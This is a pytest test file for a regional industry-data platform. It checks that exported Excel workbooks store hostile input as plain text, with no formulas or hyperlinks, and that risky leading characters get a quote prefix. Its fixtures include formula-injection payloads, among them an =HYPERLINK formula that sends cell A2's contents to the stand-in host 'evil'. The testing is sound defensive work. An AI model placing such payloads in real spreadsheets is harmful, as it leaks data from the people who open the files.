"""Formula injection (issue 12): every workbook the platform writes keeps input text as text.

A name like `=HYPERLINK("http://evil/?x="&A2,"点击")` in a department file must reach the
region export, the published lists, the monitoring workbook and the import error report as a
string cell: no formula, no hyperlink, and a cell that starts with = + - @ tab or CR carries the
quote prefix so that Excel does not evaluate it when the cell is edited. Numbers stay numbers.
"""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import polars as pl
import pytest
import xlsxwriter

from industry_brain.engines.permu.workbook import write_workbook
from industry_brain.engines.progress.actuals import PlanActuals
from industry_brain.engines.progress.assess import Actual
from industry_brain.engines.progress.catalog import load_plan
from industry_brain.engines.progress.monitor import monitor
from industry_brain.engines.progress.workbook import write_monitoring
from industry_brain.xlsx import new_workbook, write_rows
from web_helpers import follow

from helpers import STAT_HEADER, make_uscc, stat_row

LINK = '=HYPERLINK("http://evil/?x="&A2,"点击")'
HOSTILE = [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "http://evil.example/"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@dataclass(frozen=True)
class Cell:
    sheet: str
    ref: str
    kind: str  # "s" string, "n" number, "f" formula, "b" boolean
    value: object
    quote_prefix: bool


def _text(node: ElementTree.Element) -> str:
    raw = "".join(t.text or "" for t in node.iter(f"{MAIN}t"))
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), raw)


def read_cells(data: bytes) -> list[Cell]:
    """Every cell of every worksheet, read from the package XML (after the checks that the
    package holds no formula and no hyperlink at all)."""
    book = zipfile.ZipFile(io.BytesIO(data))
    names = book.namelist()
    sheets = [n for n in names if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
    assert sheets
    for name in sheets:
        xml = book.read(name).decode()
        assert "<f>" not in xml and "<f " not in xml, f"formula in {name}"
        assert "<hyperlink" not in xml, f"hyperlink in {name}"
    for name in names:
        if name.endswith(".rels"):
            assert "relationships/hyperlink" not in book.read(name).decode(), name
    shared: list[str] = []
    if "xl/sharedStrings.xml" in names:
        root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        shared = [_text(si) for si in root.iter(f"{MAIN}si")]
    styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    xfs = styles.find(f"{MAIN}cellXfs")
    assert xfs is not None
    quoted = [xf.get("quotePrefix") == "1" for xf in xfs.iter(f"{MAIN}xf")]
    cells = []
    for name in sheets:
        for c in ElementTree.fromstring(book.read(name)).iter(f"{MAIN}c"):
            kind, v, inline = c.get("t", "n"), c.find(f"{MAIN}v"), c.find(f"{MAIN}is")
            if c.find(f"{MAIN}f") is not None:
                kind, value = "f", None
            elif kind == "s":
                assert v is not None and v.text is not None
                value = shared[int(v.text)]
            elif kind == "inlineStr":
                assert inline is not None
                kind, value = "s", _text(inline)
            else:
                value = v.text if v is not None else None
            cells.append(Cell(name, c.get("r", ""), kind, value, quoted[int(c.get("s", "0"))]))
    return cells


def assert_text_only(data: bytes, expected: list[str]) -> list[Cell]:
    """No formula or hyperlink; each text that starts like a formula has the quote prefix; each
    expected text is there as a string cell."""
    cells = read_cells(data)
    for c in cells:
        if c.kind == "s" and str(c.value).startswith(DANGEROUS):
            assert c.quote_prefix, f"{c.sheet} {c.ref} {c.value!r} without the quote prefix"
    strings = {c.value for c in cells if c.kind == "s"}
    missing = [s for s in expected if s not in strings]
    assert not missing, f"not written as text: {missing}"
    return cells


def test_write_rows_writes_text_as_text_and_numbers_as_numbers(tmp_path):
    wb, bold = new_workbook(tmp_path / "rows.xlsx", "t")
    ws = wb.add_worksheet("名单")
    write_rows(ws, ["文本", "数"], [[s, -5] for s in HOSTILE] + [["-", -2.5]], bold)
    ws.write(20, 0, LINK)  # a direct write goes the same way
    ws.write_row(21, 0, ["+1+1", -7])
    wb.close()
    cells = assert_text_only((tmp_path / "rows.xlsx").read_bytes(), HOSTILE)
    numbers = [c for c in cells if c.kind == "n"]
    expected = sorted([-5.0] * len(HOSTILE) + [-2.5, -7.0])
    assert sorted(float(str(c.value)) for c in numbers) == expected
    assert not any(c.quote_prefix for c in numbers)
    plain = [c for c in cells if c.value in ("文本", "http://evil.example/")]
    assert plain and not any(c.quote_prefix for c in plain)


def test_same_rows_give_the_same_bytes(tmp_path):
    for name in ("a", "b"):
        wb, bold = new_workbook(tmp_path / f"{name}.xlsx", "t")
        write_rows(wb.add_worksheet("x"), ["文本"], [[s] for s in HOSTILE], bold)
        wb.close()
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def _scores() -> pl.DataFrame:
    rows = []
    for i, text in enumerate(HOSTILE):
        rows.append(
            {
                "uscc": make_uscc(serial=i + 1),
                "name": text,
                "region_code": "331003",
                "status": "evaluated",
                "track": "above_scale",
                "group": text,
                "rank": i + 1,
                "total": 90.0 - i,
                "percentile": i / len(HOSTILE),
                "grade": "ABCD"[i % 4],
                "veto": text,
                "leader": i == 0,
                "reason": text,
                "d_years": -1 if i == 0 else i,
            }
        )
    return pl.DataFrame(rows)


def test_published_lists_write_names_as_text(tmp_path):
    """The lists a run publishes (the whole region's, or a county's part: the same writer)."""
    scores = _scores()
    prices = pl.DataFrame(
        {
            "uscc": scores["uscc"],
            "resource": ["electricity"] * len(HOSTILE),
            "title": HOSTILE,
            "surcharge": [-0.1] * len(HOSTILE),
            "unit": HOSTILE,
        }
    )
    sheets = {"按区县汇总": pl.DataFrame({"区县": HOSTILE, "企业数": [-1] * len(HOSTILE)})}
    path = write_workbook(
        tmp_path / "lists.xlsx", "台州", scores, {"331003": "黄岩区"}, prices, sheets
    )
    cells = assert_text_only(path.read_bytes(), HOSTILE)
    assert any(c.kind == "n" and c.value == "-1" for c in cells)  # a negative count stays a number


def test_monitoring_workbook_writes_entered_text_as_text(tmp_path):
    plan = load_plan("taizhou-14th-fyp")
    first = plan.indicators[0]
    series = {first.id: {2021: Actual(2021, -1.5, "entered", LINK, "+1+1")}}
    actuals = PlanActuals(series, ["@SUM(A1)", "-2+3"])
    m = monitor(None, plan, 2022, actuals=actuals)
    path = write_monitoring(tmp_path / "monitoring.xlsx", m, series)
    assert_text_only(path.read_bytes(), [LINK, "+1+1", "@SUM(A1)", "-2+3"])


def department_file(path: Path, rows: list[list[object]]) -> Path:
    """A department's file: the hostile names are text cells, as a clerk would type them."""
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    ws = wb.add_worksheet("Sheet1")
    for i, row in enumerate(rows):
        ws.write_row(i, 0, row)
    wb.close()
    return path


@pytest.fixture
def client(city_client):
    return city_client


def test_error_report_and_region_export_write_uploaded_text_as_text(client, tmp_path):
    """Uploaded through the browser: a bad code's value in the error report, the loaded names
    in the region's Excel export."""
    rows = [STAT_HEADER]
    rows += [stat_row(i + 1, year=2022, name=s) for i, s in enumerate(HOSTILE)]
    rows += [stat_row(90 + i, year=2022, uscc=s) for i, s in enumerate([LINK, "@SUM(A1)"])]
    path = department_file(tmp_path / "工业企业主要指标_2022.xlsx", rows)
    token_page = client.get("/import").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', token_page).group(1)
    with open(path, "rb") as f:
        files = [("files", (path.name, f.read()))]
    review = follow(
        client, client.post("/import", data={"csrf": csrf, "source": "statistics"}, files=files)
    )
    assert review.status_code == 200, review.text[:500]
    token = re.search(r"/import/([0-9a-f]+)/0/errors.xlsx", review.text).group(1)
    errors = client.get(f"/import/{token}/0/errors.xlsx")
    assert errors.status_code == 200
    assert_text_only(errors.content, [LINK.upper(), "@SUM(A1)"])  # codes are read upper-case
    csrf = re.search(r'name="csrf" value="([^"]+)"', review.text).group(1)
    loaded = follow(client, client.post(f"/import/{token}/load", data={"csrf": csrf}))
    assert loaded.status_code == 200
    export = client.get("/region/331003/export.xlsx")
    assert export.status_code == 200
    names = [s for s in HOSTILE if s.strip() == s]  # a name is read without edge whitespace
    assert_text_only(export.content, names)
